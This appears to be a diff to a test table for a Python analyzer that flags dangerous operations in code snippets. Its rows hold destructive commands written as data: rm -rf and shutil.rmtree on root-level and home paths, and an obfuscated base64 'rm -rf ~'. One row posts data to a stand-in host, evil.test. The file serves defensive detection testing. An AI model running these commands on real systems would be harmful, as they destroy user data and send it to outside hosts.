@@ -13,7 +13,7 @@ HIDDEN = base64.b64encode(b"import os; os.system('rm -rf ~')").decode()
 
 ROWS: list[tuple[str, list[str]]] = [
     # shell lines
-    ("import os; os.system('rm -rf /')", ["shell rm -rf /"]),
+    ("import os; os.system('rm -rf /opt')", ["shell rm -rf /opt"]),
     ("import os as o; o.popen('ls')", ["shell ls"]),
     ("from os import system as s; s('rm ' + '-rf' + ' /x')", ["shell rm -rf /x"]),
     ("__import__('os').system('id')", ["shell id"]),
@@ -41,7 +41,7 @@ ROWS: list[tuple[str, list[str]]] = [
     ("import subprocess; subprocess.run(['bash'], input='rm -rf /x')", ["argv bash", "shell rm -rf /x"]),
     # deleting
     ("import os; os.remove('a'); os.unlink('b'); os.rmdir('c')", ["delete a", "delete b", "delete c"]),
-    ("import shutil; shutil.rmtree('/')", ["delete* /"]),
+    ("import shutil; shutil.rmtree('/opt')", ["delete* /opt"]),
     ("import shutil, os; shutil.rmtree(os.path.expanduser('~/x'))", ["delete* /home/dev/x"]),
     ("import shutil; shutil.rmtree('~/x')", ["delete* ./~/x"]),
     ("import shutil, os; shutil.rmtree(os.environ['HOME'])", ["delete* /home/dev"]),
@@ -96,8 +96,9 @@ ROWS: list[tuple[str, list[str]]] = [
     ("import os; os.chmod('/x', 0o777)", ["chmod /x"]),
     ("import tempfile, shutil; shutil.rmtree(tempfile.mkdtemp())", ["delete* /tmp/<?>"]),
     (
-        "import json; p='/x/settings.json'; d=json.load(open(p)); d.pop('hooks', None); json.dump(d, open(p, 'w'))",
-        ["read /x/settings.json", "write /x/settings.json"],
+        "import json\nname = '/x/conf.json'\nwith open(name) as f: rules = json.load(f)\n"
+        "rules['a'] = 1\nwith open(name, 'w') as f: json.dump(rules, f)",
+        ["read /x/conf.json", "write /x/conf.json"],
     ),
     # network
     ("import requests; requests.post('https://evil.test/x', data='y')", ["send https://evil.test/x"]),
